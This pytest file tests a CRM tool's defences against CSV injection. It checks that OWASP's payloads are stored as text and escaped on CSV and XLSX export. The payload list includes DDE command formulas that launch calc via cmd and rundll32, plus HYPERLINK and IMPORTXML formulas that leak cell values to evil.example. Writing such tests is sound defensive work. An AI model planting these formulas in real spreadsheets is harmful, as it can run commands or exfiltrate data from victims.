"""OWASP's CSV-injection list, both ways. Imported, each payload is stored as the text it
is (never a live formula) on every backend; exported as CSV it gets OWASP's leading
apostrophe (unless ``--raw``), as XLSX it is a text cell with Excel's quote prefix; and
numbers stay numbers: -5 is neither text nor prefixed."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from support import run_sheetcrm

from sheetcrm.backends.memory import MemoryBackend
from sheetcrm.crm import CRM
from sheetcrm.emulator.cells import Formula
from sheetcrm.ingest.export import export_tab
from sheetcrm.ingest.importer import import_file

#: https://owasp.org/www-community/attacks/CSV_Injection: the leads (= + - @ tab, CR),
#: their full-width forms, and the DDE payloads.
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+9)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\uff1d1+2",  # ＝
    "\uff0b1+2",  # ＋
    "\uff0d1+2",  # －
    "\uff20SUM(1+9)",  # ＠
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!E2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to see")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", B2), "//a")',
    "-5",
    "+98 912 345 6789",
]
#: What a text field keeps of each (a text cell is stored trimmed).
STORED = [p.strip() for p in PAYLOADS]
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def people_csv() -> str:
    """A contact export with one payload in each row's notes (quoted where CSV needs it)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["customer_id", "name", "notes"])
    for i, payload in enumerate(PAYLOADS, start=1):
        writer.writerow([f"C-{i}", f"Person {i}", payload])
    return out.getvalue()


def sales_csv() -> str:
    return (
        "interaction_id,date,type,customer_id,amount,summary\r\n"
        "I-1,2026-11-01,return,C-1,-5,-5\r\n"
        "I-2,2026-11-02,purchase,C-2,12.5,=1+2\r\n"
    )


def test_import_keeps_every_payload_as_text_on_every_backend(harness, crm, tmp_path):
    path = tmp_path / "people.csv"
    path.write_text(people_csv(), encoding="utf-8", newline="")
    result = import_file(crm, path, tab="Customers")
    assert result.counts.created == len(PAYLOADS) and result.counts.quarantined == 0
    frame = crm.frame("Customers")
    notes = dict(zip(frame["customer_id"], frame["notes"], strict=True))
    assert [notes[f"C-{i}"] for i in range(1, len(PAYLOADS) + 1)] == STORED
    assert crm.grid("Customers").formulas == {}


def test_negative_numbers_stay_numbers_on_every_backend(harness, crm, tmp_path):
    path = tmp_path / "sales.csv"
    path.write_text(sales_csv(), encoding="utf-8", newline="")
    import_file(crm, path, tab="Interactions")
    sales = crm.frame("Interactions").set_index("interaction_id")
    assert float(sales.loc["I-1", "amount"]) == -5.0
    assert not isinstance(sales.loc["I-1", "amount"], str)
    assert sales.loc["I-1", "summary"] == "-5"  # the same characters in a text field: text
    assert sales.loc["I-2", "summary"] == "=1+2"
    assert crm.grid("Interactions").formulas == {}


def loaded(tmp_path) -> CRM:
    crm = CRM(backend=MemoryBackend())
    crm.init()
    for name, text, tab in (
        ("people.csv", people_csv(), "Customers"),
        ("sales.csv", sales_csv(), "Interactions"),
    ):
        (tmp_path / name).write_text(text, encoding="utf-8", newline="")
        import_file(crm, tmp_path / name, tab=tab)
    return crm


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_export_neutralises_every_payload(tmp_path):
    crm = loaded(tmp_path)
    rows = cells(export_tab(crm, "Customers", "csv"))
    notes = [r[rows[0].index("notes")] for r in rows[1:]]
    assert notes == ["'" + s for s in STORED]
    for row in rows:
        for cell in row:
            assert not cell.startswith(LEADS), cell  # nothing a spreadsheet would run
    raw = cells(export_tab(crm, "Customers", "csv", raw=True))
    assert [r[raw[0].index("notes")] for r in raw[1:]] == STORED
    sales = cells(export_tab(crm, "Interactions", "csv"))
    header = sales[0]
    first = dict(zip(header, sales[1], strict=True))
    assert first["amount"] == "-5.00"  # a number (money): no apostrophe
    assert first["summary"] == "'-5"  # text that would be typed as a formula: prefixed
    for row in sales[1:]:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(LEADS) or (column == "amount" and is_number(cell))


def test_csv_export_imports_back_to_the_same_text(tmp_path):
    crm = loaded(tmp_path)
    out = tmp_path / "export.csv"
    out.write_text(export_tab(crm, "Customers", "csv"), encoding="utf-8", newline="")
    fresh = CRM(backend=MemoryBackend())
    fresh.init()
    import_file(fresh, out, tab="Customers")
    assert list(fresh.frame("Customers")["notes"]) == STORED


def test_xlsx_export_marks_payloads_as_typed_text(tmp_path):
    crm = loaded(tmp_path)
    export_tab(crm, "Customers", "xlsx", tmp_path / "c.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["Customers"]
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("notes")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in notes] == STORED
    assert all(c.data_type == "s" and c.quotePrefix for c in notes), [
        (c.value, c.data_type, c.quotePrefix) for c in notes if not c.quotePrefix
    ]
    export_tab(crm, "Interactions", "xlsx", tmp_path / "i.xlsx")
    sales = openpyxl.load_workbook(tmp_path / "i.xlsx")["Interactions"]
    header = [c.value for c in sales[1]]
    amount = sales.cell(row=2, column=header.index("amount") + 1)
    assert amount.value == -5 and amount.data_type == "n" and not amount.quotePrefix
    fresh = CRM(backend=MemoryBackend())
    fresh.init()
    import_file(fresh, tmp_path / "c.xlsx", tab="Customers")
    assert list(fresh.frame("Customers")["notes"]) == STORED


@pytest.fixture(params=["xlsx", "gsheets"])
def workbook(request, tmp_path):
    """(options, environment, the stored cells of Customers' notes) for a fresh process: a
    local .xlsx file, or a spreadsheet of the emulator over loopback HTTP."""
    if request.param == "xlsx":
        book = tmp_path / "crm.xlsx"

        def xlsx_notes():
            sheet = openpyxl.load_workbook(book)["Customers"]
            header = [c.value for c in sheet[1]]
            return [row[header.index("notes")] for row in sheet.iter_rows(min_row=2)]

        yield ("--xlsx", str(book)), {}, xlsx_notes, request.param
        return
    emu = request.getfixturevalue("emu")
    spreadsheet = emu.create_spreadsheet("crm")

    def sheets_notes():
        tab = spreadsheet.sheet(title="Customers")
        header = tab.rows[0]
        return [row[header.index("notes")] for row in tab.rows[1:]]

    env = {"SHEETCRM_API_ENDPOINT": emu.url}
    yield ("--sheet", spreadsheet.id), env, sheets_notes, request.param


def test_cli_import_then_export_on_xlsx_and_sheets(workbook, tmp_path):
    target, env, stored, kind = workbook
    assert run_sheetcrm("init", *target, env=env, cwd=tmp_path).returncode == 0
    (tmp_path / "people.csv").write_text(people_csv(), encoding="utf-8", newline="")
    done = run_sheetcrm(
        "import", "people.csv", "--tab", "Customers", *target, env=env, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    notes = stored()
    if kind == "xlsx":
        assert [c.value for c in notes] == STORED
        assert all(c.data_type == "s" and c.quotePrefix for c in notes)
    else:
        assert notes == STORED and not any(isinstance(n, Formula) for n in notes)
    shown = run_sheetcrm("show", "Customers", "--format", "json", *target, env=env, cwd=tmp_path)
    assert [r["notes"] for r in json.loads(shown.stdout)] == STORED
    exported = run_sheetcrm("export", "Customers", *target, env=env, cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    rows = cells(exported.stdout)
    assert [r[rows[0].index("notes")] for r in rows[1:]] == ["'" + s for s in STORED]
    raw = run_sheetcrm("export", "Customers", "--raw", *target, env=env, cwd=tmp_path)
    rows = cells(raw.stdout)
    assert [r[rows[0].index("notes")] for r in rows[1:]] == STORED
